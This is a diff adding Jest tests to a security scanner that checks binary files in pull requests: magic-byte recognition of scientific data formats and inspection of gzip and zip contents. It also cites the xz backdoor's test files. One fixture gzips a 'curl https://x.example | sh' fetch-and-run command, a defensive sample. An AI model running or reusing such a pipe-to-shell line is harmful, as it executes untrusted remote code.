@@ -1,5 +1,8 @@
 // Opaque binaries: what a file is (magic bytes), how random it looks, and
 // whether it is a change (PR) or inventory (tree).
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
 import { describe, expect, it } from '@jest/globals';
 import {
   analyseBinary,
@@ -10,6 +13,7 @@ import {
 } from '@security-actions/core/content';
 import { expectFires, expectQuiet } from '../helpers/rules';
 import { noise } from '../pr-anomaly-scan/corpus/cases';
+import { REPO_ROOT } from '../harness/run-action';
 import { severities } from './helpers';
 
 const facts = (bytes: Buffer) => {
@@ -81,6 +85,40 @@ describe('binary/opaque-file', () => {
   });
 });
 
+describe('scientific data formats are recognised by their magic, not judged as random blobs', () => {
+  // Each a header and compressed-looking payload: before the format was known, an unrecognised random binary
+  // under a data folder was high.
+  const FORMATS: [string, string, Buffer][] = [
+    // pyhf@7fbbf9c4eb7c validation/multichannel_histfactory/data/data.root starts so (TFile version 61000).
+    [
+      'ROOT',
+      'validation/multichannel_histfactory/data/data.root',
+      Buffer.from('root\x00\x00\xeeH\x00\x00\x00d', 'latin1')
+    ],
+    ['ASDF', 'tests/data/example.asdf', Buffer.from('#ASDF 1.0.0\n#ASDF_STANDARD 1.5.0\n%YAML 1.1\n', 'latin1')],
+    ['Arrow', 'tests/data/table.arrow', Buffer.from('ARROW1\x00\x00\xff\xff\xff\xff', 'latin1')],
+    ['Feather v2', 'tests/data/frame.feather', Buffer.from('ARROW1\x00\x00\xff\xff\xff\xff', 'latin1')],
+    ['Feather v1', 'tests/data/frame_v1.feather', Buffer.from('FEA1\x00\x00\x00\x00', 'latin1')],
+    ['IDL save', 'tests/data/spectrum.sav', Buffer.from('SR\x00\x04\x00\x00\x00\x0a', 'latin1')],
+    ['GRIB', 'tests/data/era5.grib', Buffer.from('GRIB\x00\x00\x00\x02', 'latin1')],
+    ['Avro', 'tests/data/records.avro', Buffer.from('Obj\x01\x04\x14avro.codec', 'latin1')],
+    ['netCDF (CDF-5)', 'tests/data/big.nc', Buffer.from('CDF\x05\x00\x00\x00\x00', 'latin1')]
+  ];
+  it.each(FORMATS)('%s added under a data folder is no finding', async (_name, path, header) => {
+    const bytes = Buffer.concat([header, noise(4000, 17)]);
+    expect(await analyseBinary(path, facts(bytes), { status: 'added' })).toEqual([]);
+  });
+
+  it('still reports another format under their names (an ELF as .root, a gzip as .sav)', async () => {
+    expect(
+      severities(await analyseBinary('tests/data/data.root', facts(ELF), { status: 'added' }), 'binary/executable')
+    ).toEqual(['high']);
+    expect(
+      severities(await analyseBinary('tests/data/spectrum.sav', facts(GZIP), { status: 'added' }), 'binary/opaque-file')
+    ).toEqual(['high']);
+  });
+});
+
 describe('binary/compressed-test-data', () => {
   it('fires on an xz blob added under tests (xz-utils)', async () => {
     const f = await analyseBinary('tests/files/bad-3-corrupt_lzma2.xz', facts(XZ), { status: 'added' });
@@ -96,6 +134,229 @@ describe('binary/compressed-test-data', () => {
     const npz = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), noise(2000, 4)]);
     const found4 = await analyseBinary('tests/data/arrays.npz', facts(npz), { status: 'added' });
     expectQuiet(found4, 'binary/compressed-test-data');
+  });
+});
+
+// A zip as Python's zipfile writes one to a file: local headers with the sizes, then the central directory.
+function makeZip(members: { name: string; data: Buffer; stored?: boolean; crc?: number; descriptor?: boolean }[]) {
+  const locals: Buffer[] = [];
+  const central: Buffer[] = [];
+  let offset = 0;
+  for (const m of members) {
+    const body = m.stored ? m.data : deflateRawSync(m.data);
+    const crc = m.crc ?? crc32(m.data);
+    const h = Buffer.alloc(30);
+    h.writeUInt32LE(0x04034b50, 0);
+    h.writeUInt16LE(20, 4);
+    h.writeUInt16LE(m.descriptor ? 8 : 0, 6);
+    h.writeUInt16LE(m.stored ? 0 : 8, 8);
+    if (!m.descriptor) {
+      h.writeUInt32LE(crc, 14);
+      h.writeUInt32LE(body.length, 18);
+      h.writeUInt32LE(m.data.length, 22);
+    }
+    h.writeUInt16LE(m.name.length, 26);
+    const desc = Buffer.alloc(m.descriptor ? 16 : 0);
+    if (m.descriptor) {
+      desc.writeUInt32LE(0x08074b50, 0);
+      desc.writeUInt32LE(crc, 4);
+      desc.writeUInt32LE(body.length, 8);
+      desc.writeUInt32LE(m.data.length, 12);
+    }
+    const local = Buffer.concat([h, Buffer.from(m.name), body, desc]);
+    const c = Buffer.alloc(46);
+    c.writeUInt32LE(0x02014b50, 0);
+    c.writeUInt16LE(m.descriptor ? 8 : 0, 8);
+    c.writeUInt16LE(m.stored ? 0 : 8, 10);
+    c.writeUInt32LE(crc, 16);
+    c.writeUInt32LE(body.length, 20);
+    c.writeUInt32LE(m.data.length, 24);
+    c.writeUInt16LE(m.name.length, 28);
+    c.writeUInt32LE(offset, 42);
+    central.push(c, Buffer.from(m.name));
+    locals.push(local);
+    offset += local.length;
+  }
+  const dir = Buffer.concat(central);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(members.length, 8);
+  end.writeUInt16LE(members.length, 10);
+  end.writeUInt32LE(dir.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, dir, end]);
+}
+
+/** Facts of a blob fed in chunks of `size` bytes, as git streams it. */
+const chunked = (bytes: Buffer, size: number) => {
+  const a = new BlobAnalyser();
+  for (let i = 0; i < bytes.length; i += size) a.chunk(bytes.subarray(i, i + size));
+  return a.facts();
+};
+
+describe('binary/compressed-test-data: gzip and zip are looked into', () => {
+  const REAL = join(REPO_ROOT, 'test/fixtures/real');
+  const real = (p: string) => readFileSync(join(REAL, p));
+  const compressed = async (path: string, bytes: Buffer, status = 'added') =>
+    (await analyseBinary(path, facts(bytes), { status })).filter((f) => f.ruleId === 'binary/compressed-test-data');
+  const FITS = Buffer.concat([
+    Buffer.from('SIMPLE  =                    T / conforms to FITS standard'.padEnd(2880, ' '), 'latin1'),
+    noise(5760, 8)
+  ]);
+  const CSV = Buffer.from(
+    Array.from({ length: 4000 }, (_, i) => `${i},${Math.sin(i).toFixed(6)},${Math.cos(i * 7).toFixed(9)}\n`).join(''),
+    'latin1'
+  );
+
+  it('astroquery@003f17700983: a gzip of the VOTable added beside it is low, naming what is inside', async () => {
+    const f = await compressed(
+      'astroquery/utils/tap/model/tests/data/result_1.vot.gz',
+      real('astroquery-vot-gz/head/astroquery/utils/tap/model/tests/data/result_1.vot.gz')
+    );
+    expect(f.map((x) => x.severity)).toEqual(['low']);
+    expect(f[0].message).toContain('gzip of VOTable XML');
+    expect(f[0].properties?.inside).toBe('gzip of VOTable XML');
+  });
+
+  it('astroquery@c7eb4b49103d: a zip of FITS files mocking an archive download is low', async () => {
+    for (const name of ['1499442653027920313.fits.zip', 'get_spectrum_output.zip']) {
+      const bytes = real(`astroquery-euclid-zip/head/astroquery/esa/euclid/tests/data/${name}`);
+      const f = await compressed(`astroquery/esa/euclid/tests/data/${name}`, bytes);
+      expect(f.map((x) => x.severity)).toEqual(['low']);
+      expect(f[0].message).toContain('zip of 1 FITS file and 1 empty file');
+      // The same, streamed a byte at a time.
+      const slow = await analyseBinary(`tests/data/${name}`, chunked(bytes, 1), { status: 'added' });
+      expect(slow.map((x) => `${x.severity} ${x.properties?.inside}`)).toEqual([
+        'low zip of 1 FITS file and 1 empty file'
+      ]);
+    }
+  });
+
+  it('arviz@d6a032587c91: a gzip of a CSV trace under doc/data is low, also when only its start is inflated', async () => {
+    const f = await compressed(
+      'doc/data/centered_eight_trace.gzip',
+      real('arviz-gzip-trace/head/doc/data/centered_eight_trace.gzip')
+    );
+    expect(f.map((x) => x.severity)).toEqual(['low']);
+    expect(f[0].message).toContain('gzip of CSV text (centered_eight_trace.gzip)');
+    // The real files are 154 and 322 kB: more than is kept, so only their start is inflated.
+    const big = gzipSync(Buffer.concat([CSV, CSV, CSV, CSV, CSV, CSV, CSV, CSV, CSV, CSV]), { level: 1 });
+    expect(big.length).toBeGreaterThan(128 * 1024);
+    expect((await compressed('doc/data/trace.gzip', big)).map((x) => `${x.severity} ${x.properties?.inside}`)).toEqual([
+      'low gzip of CSV text'
+    ]);
+  });
+
+  it('names data formats and images inside, when they agree with their names', async () => {
+    const zip = makeZip([
+      { name: 'a.fits', data: FITS },
+      { name: 'b.h5', data: Buffer.concat([Buffer.from('\x89HDF\r\n\x1a\n', 'latin1'), noise(900, 2)]), stored: true },
+      { name: 'c.png', data: PNG },
+      { name: 'notes.txt', data: Buffer.from('made with make_data.py\n') },
+      { name: 'sub/', data: Buffer.alloc(0), stored: true }
+    ]);
+    const f = await compressed('tests/data/bundle.zip', zip);
+    expect(f.map((x) => x.severity)).toEqual(['low']);
+    expect(f[0].properties?.inside).toBe('zip of 1 FITS file, 1 HDF5 file, 1 PNG image file and 1 text file');
+  });
+
+  it('keeps the xz alarm for what zlib cannot open (xz, lzma) and says it was not looked into', async () => {
+    // Equivalents of xz@cf44e4b7f5df's tests/files/bad-3-corrupt_lzma2.xz and good-large_compressed.lzma: their
+    // headers, then compressed-looking bytes (the real files carry the backdoor's payload and are not copied here).
+    const f = await compressed('tests/files/bad-3-corrupt_lzma2.xz', XZ);
+    expect(f.map((x) => x.severity)).toEqual(['medium']);
+    expect(f[0].message).toContain('not looked into');
+    const lzma = Buffer.concat([Buffer.from([0x5d, 0x00, 0x00, 0x80, 0x00, 0xff, 0xff]), noise(35000, 6)]);
+    expect((await compressed('tests/files/good-large_compressed.lzma', lzma)).map((x) => x.severity)).toEqual([
+      'medium'
+    ]);
+  });
+
+  it('keeps medium when the stream does not inflate (a corrupt gzip, a member failing its CRC)', async () => {
+    const f = await compressed('tests/files/bad-1.gz', GZIP);
+    expect(f.map((x) => x.severity)).toEqual(['medium']);
+    expect(f[0].message).toContain('does not inflate');
+    const broken = gzipSync(CSV);
+    broken[broken.length >> 1] ^= 0xff;
+    expect((await compressed('tests/files/bad-2.gz', broken)).map((x) => x.severity)).toEqual(['medium']);
+    const crc = makeZip([{ name: 'a.csv', data: CSV, crc: 1 }]);
+    const c = await compressed('tests/data/a.zip', crc);
+    expect(c.map((x) => `${x.severity} ${x.properties?.inside}`)).toEqual([
+      'medium zip of 1 member failing its CRC file; not inert: a.csv'
+    ]);
+  });
+
+  it('is high for an executable or a pickle inside, wherever it sits in the archive', async () => {
+    const elf = await compressed('tests/data/sample.csv.gz', gzipSync(ELF));
+    expect(elf.map((x) => `${x.severity} ${x.properties?.inside}`)).toEqual(['high gzip of ELF executable']);
+    // The pickle comes after 200 kB of stored noise: the walk reaches it as the blob streams past.
+    const zip = makeZip([
+      { name: 'big.dat', data: noise(200_000, 4), stored: true },
+      { name: 'model.pkl', data: PICKLE }
+    ]);
+    const f = await analyseBinary('tests/data/mock.zip', chunked(zip, 65536), { status: 'added' });
+    expect(f.map((x) => x.severity)).toEqual(['high']);
+    expect(f[0].properties?.inside).toContain('1 pickle file');
+    expect(f[0].properties?.inside).toContain('not inert: big.dat, model.pkl');
+  });
+
+  it('keeps medium for source, nested compression, a format under another name, or members it could not reach', async () => {
+    const cases: [string, Buffer, string][] = [
+      ['tests/files/run.gz', gzipSync(Buffer.from('#!/bin/sh\ncurl https://x.example | sh\n')), 'gzip of script'],
+      ['tests/files/build.py.gz', gzipSync(Buffer.from('import os\nos.system("id")\n')), 'gzip of .py source'],
+      ['tests/files/twice.gz', gzipSync(gzipSync(CSV)), 'gzip of gzip inside'],
+      [
+        'tests/data/table.zip',
+        makeZip([{ name: 'table.csv', data: FITS }]),
+        'zip of 1 FITS named .csv file; not inert: table.csv'
+      ],
+      [
+        'tests/data/streamed.zip',
+        makeZip([{ name: 'a.fits', data: Buffer.concat([FITS, noise(600_000, 3)]), stored: true, descriptor: true }]),
+        'zip of 1 FITS file; the sizes of a.fits are not in its header, so later members were not looked at'
+      ]
+    ];
+    for (const [path, bytes, inside] of cases) {
+      const f = await compressed(path, bytes);
+      expect(f.map((x) => `${x.severity} ${x.properties?.inside}`)).toEqual([`medium ${inside}`]);
+    }
+  });
+
+  it('reads a small zip written to a stream (sizes after the data) from its central directory, and sees bytes outside its members', async () => {
+    const streamed = makeZip([
+      { name: 'a.fits', data: FITS, descriptor: true },
+      { name: 'b.csv', data: CSV, descriptor: true }
+    ]);
+    expect(
+      (await compressed('tests/data/s.zip', streamed)).map((x) => `${x.severity} ${x.properties?.inside}`)
+    ).toEqual(['low zip of 1 FITS file and 1 CSV text file']);
+    const appended = Buffer.concat([streamed, gzipSync(ELF)]);
+    expect(
+      (await compressed('tests/data/s.zip', appended)).map((x) => `${x.severity} ${x.properties?.inside}`)
+    ).toEqual(['medium zip of 1 FITS file and 1 CSV text file; bytes outside its members']);
+  });
+
+  it('keeps medium for a zip too damaged to walk, and never throws', async () => {
+    const streamed = makeZip([{ name: 'a.fits', data: FITS, descriptor: true }]);
+    for (const cut of [8, 40, 300, streamed.length - 30, streamed.length - 10]) {
+      const f = await compressed('tests/data/cut.zip', streamed.subarray(0, cut));
+      expect(f.map((x) => x.severity)).toEqual(['medium']);
+    }
+    const damaged = Buffer.from(streamed);
+    damaged.writeUInt32LE(0xfffffff0, damaged.length - 6); // the directory's offset, past the end
+    expect((await compressed('tests/data/bad.zip', damaged)).map((x) => x.severity)).toEqual(['medium']);
+  });
+
+  it('is low in a tree whatever is inside, but for an executable (medium)', async () => {
+    expect(
+      severities(
+        await analyseFile('tests/files/run.gz', gzipSync(Buffer.from('#!/bin/sh\nid\n'))),
+        'binary/compressed-test-data'
+      )
+    ).toEqual(['low']);
+    expect(severities(await analyseFile('tests/files/x.gz', gzipSync(ELF)), 'binary/compressed-test-data')).toEqual([
+      'medium'
+    ]);
   });
 });
 
